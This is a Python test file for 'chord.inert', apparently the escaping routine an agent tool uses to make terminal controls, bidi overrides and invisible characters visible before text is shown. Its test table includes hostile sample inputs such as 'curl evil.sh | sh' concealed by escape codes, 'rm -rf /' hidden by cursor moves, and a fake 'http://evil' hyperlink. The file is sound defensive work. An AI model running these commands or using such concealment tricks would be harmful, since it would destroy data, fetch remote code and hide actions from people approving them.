"""``chord.inert``: terminal controls, bidi and invisible characters made visible, the rest kept.

The rule every presentation applies to text from the model, tools, files and servers (issue 36,
"what you see is what runs"): a table of each class of character, then properties over any text.
"""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chord import inert

TABLE = [
    # plain text: unchanged
    ("", ""),
    ("echo hello", "echo hello"),
    ("Grüße — “quoted” 日本語 😀", "Grüße — “quoted” 日本語 😀"),
    (r"C:\Users\x1b\path \d+", r"C:\Users\x1b\path \d+"),  # a backslash is not escaped
    # newline and tab are kept; a CR ending a line goes, a lone CR shows
    ("a\nb\tc", "a\nb\tc"),
    ("line one\r\nline two\r\n", "line one\nline two\n"),
    ("echo safe\rrm -rf ~", r"echo safe\x0drm -rf ~"),
    ("\r\r\n", "\\x0d\n"),
    # C0 controls
    ("\x00\x01\x07\x08", r"\x00\x01\x07\x08"),
    ("\x0b\x0c\x1b\x1f", r"\x0b\x0c\x1b\x1f"),
    # the conceal code that hid a payload in the approval dialog
    ("ls\x1b[8m; curl evil.sh | sh\x1b[0m", r"ls\x1b[8m; curl evil.sh | sh\x1b[0m"),
    # an OSC window title (BEL- and ST-terminated)
    ("\x1b]0;pwned\x07README", r"\x1b]0;pwned\x07README"),
    ("\x1b]2;pwned\x1b\\", "\\x1b]2;pwned\\x1b\\"),
    # an OSC 8 hyperlink and a cursor move that overwrites the line
    (
        "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
        "\\x1b]8;;http://evil\\x1b\\click\\x1b]8;;\\x1b\\",
    ),
    ("safe\x1b[2K\x1b[1Grm -rf /", r"safe\x1b[2K\x1b[1Grm -rf /"),
    # DEL and C1 (an 8-bit CSI)
    ("a\x7fb", r"a\x7fb"),
    ("\x80\x9b8m\x9d0;t\x9c\x9f", r"\x80\x9b8m\x9d0;t\x9c\x9f"),
    # bidi embeddings, overrides, isolates and marks (Trojan Source)
    ("\u202a\u202b\u202c\u202d\u202e", r"\u202a\u202b\u202c\u202d\u202e"),
    ("\u2066\u2067\u2068\u2069", r"\u2066\u2067\u2068\u2069"),
    ("\u200e\u200f\u061c", r"\u200e\u200f\u061c"),
    ("access\u202e\u2066 // admin\u2069\u2066", r"access\u202e\u2066 // admin\u2069\u2066"),
    # invisible format characters
    ("r\u200bm", r"r\u200bm"),
    ("\u2060\u2061\u2064\ufeff\u00ad\u180e", r"\u2060\u2061\u2064\ufeff\xad\u180e"),
    ("\ufff9a\ufffab\ufffb", r"\ufff9a\ufffab\ufffb"),
    ("\u2028\u2029", r"\u2028\u2029"),
    ("\u115f\u1160\u3164\uffa0", r"\u115f\u1160\u3164\uffa0"),
    # tag characters (invisible ASCII) and the other astral format characters
    ("hi\U000e0069\U000e0067\U000e006e", r"hi\U000e0069\U000e0067\U000e006e"),
    ("\U000e0001\U0001d173\U000110bd", r"\U000e0001\U0001d173\U000110bd"),
    # a lone surrogate (not encodable)
    ("\ud800x", r"\ud800x"),
    # kept: zero-width (non-)joiners, variation selectors, emoji sequences
    ("👨\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f", "👨\u200d👩\u200d👧 می\u200cخواهم ❤\ufe0f"),
    # combined: everything in one command
    (
        "git status\x1b[8m\r\n; curl x\u202e|sh\x9b0m\u200b",
        "git status\\x1b[8m\n; curl x\\u202e|sh\\x9b0m\\u200b",
    ),
]


@pytest.mark.parametrize(("raw", "shown"), TABLE)
def test_inert_table(raw: str, shown: str) -> None:
    assert inert(raw) == shown


def test_plain_text_is_the_same_object() -> None:
    text = "nothing to escape here — ünïcödé 😀\n" * 100
    assert inert(text) is text


def _unsafe(char: str) -> bool:
    """A character the rule escapes, judged independently of its implementation."""
    code = ord(char)
    category = unicodedata.category(char)
    if char in "\n\t":
        return False
    if char in "\u200c\u200d":  # the joiners are kept on purpose
        return False
    return (
        category in ("Cc", "Cf", "Cs", "Zl", "Zp")
        or code in (0x115F, 0x1160, 0x3164, 0xFFA0)
        or 0xE0000 <= code <= 0xE007F
        or 0x13430 <= code <= 0x1343F  # Cf from Unicode 15 on (older Pythons know fewer)
    )


BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")


@given(st.text())
def test_output_holds_no_control_bidi_or_invisible_format_character(text: str) -> None:
    out = inert(text)
    assert not any(_unsafe(char) for char in out), ascii(out)
    assert not (set(out) & BIDI)
    assert all(char in "\n\t" or unicodedata.category(char) != "Cc" for char in out)
    out.encode("utf-8")  # no lone surrogate left: writable to any UTF-8 terminal or file


@given(st.text(st.characters(exclude_categories=("Cc", "Cf", "Cs", "Zl", "Zp"))))
def test_printable_text_is_unchanged(text: str) -> None:
    if any(_unsafe(char) for char in text):  # the Hangul fillers are letters
        return
    assert inert(text) == text


@given(st.text(st.characters(codec="utf-8") | st.sampled_from("\t\n\r\x1b\u202e")))
def test_only_the_escaped_characters_change(text: str) -> None:
    """Every character is either kept or replaced by its escape; nothing else is lost."""
    expected = "".join(
        ("" if char == "\r" and text[i + 1 : i + 2] == "\n" else _escape_of(char))
        if _unsafe(char)
        else char
        for i, char in enumerate(text)
    )
    assert inert(text) == expected


def _escape_of(char: str) -> str:
    code = ord(char)
    return (
        f"\\x{code:02x}"
        if code <= 0xFF
        else f"\\u{code:04x}"
        if code <= 0xFFFF
        else f"\\U{code:08x}"
    )


@given(st.text(), st.text())
def test_idempotent_and_piecewise(a: str, b: str) -> None:
    assert inert(inert(a)) == inert(a)
    if not (a.endswith("\r") and b.startswith("\n")):
        assert inert(a + b) == inert(a) + inert(b)
